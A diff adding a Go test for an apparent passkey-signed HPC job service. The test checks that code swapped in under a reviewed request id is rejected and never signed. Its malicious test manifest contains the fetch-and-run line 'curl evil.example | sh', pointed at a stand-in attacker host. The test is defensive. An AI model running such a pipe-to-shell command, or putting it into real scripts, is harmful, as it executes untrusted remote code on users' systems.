@@ -200,6 +200,57 @@ func TestNothingIsSignedThatWasNotShown(t *testing.T) {
 	w.none("signing too early and too late")
 }
 
+// A server that was taken over shows one code and wants the signature for
+// another under the same id.
+func TestOtherCodeUnderTheSameIDIsNotSigned(t *testing.T) {
+	w := newWorld(t)
+	p := newPasskey(t)
+	w.register("alice", p)
+	evil := cavity()
+	evil.Script = "curl evil.example | sh\n"
+	r := w.post(w.codeRequest(cavity()))
+	read := shownOf(w.get("alice", path("hpc", r.ID)).body)
+	w.review(r)
+	if err := w.api.Cancel(t.Context(), r.ID); err != nil {
+		t.Fatal(err)
+	}
+	swapped := w.codeRequest(evil)
+	swapped.ID = r.ID
+	if err := w.api.Post(t.Context(), swapped); hpcsera.CodeOf(err) != hpcsera.Conflict {
+		t.Errorf("other code under a cancelled id: got %v, want a conflict", err)
+	}
+	if w.post(r); w.get("alice", path("hpc", r.ID)).status != http.StatusNotFound {
+		t.Error("a cancelled request opened again")
+	}
+	// Without the memory of closed ids, as after the first one's own end.
+	swapped = w.post(w.codeRequest(evil))
+	for name, had := range map[string]string{"what was read": read, "nothing": ""} {
+		got := w.submit("alice", path("hpc", swapped.ID), narrowed("shown", had))
+		if got.status != http.StatusUnprocessableEntity {
+			t.Errorf("review after %s: got status %d, want 422", name, got.status)
+		}
+		got.has(t, "has changed since you looked at it", "evil.example")
+	}
+	page := w.review(swapped)
+	page.has(t, "cavity", swapped.Project, digestOf(t, evil))
+	for name, had := range map[string]string{"what was read": read, "nothing": ""} {
+		f := form("action", "sign", "shown", had, "credential", p.sign(t, shown(t, page.body).PublicKey.Challenge))
+		if got := w.submit("alice", path("hpc", swapped.ID), f); got.status != http.StatusUnprocessableEntity {
+			t.Errorf("sign after %s: got status %d, want 422", name, got.status)
+		}
+	}
+	w.none("a code that was swapped")
+}
+
+func digestOf(t *testing.T, m hpcsera.Manifest) string {
+	t.Helper()
+	digest, err := m.Digest()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return digest
+}
+
 func TestLimitsAreNarrowedAndNeverWidened(t *testing.T) {
 	w := newWorld(t)
 	w.register("alice", newPasskey(t))
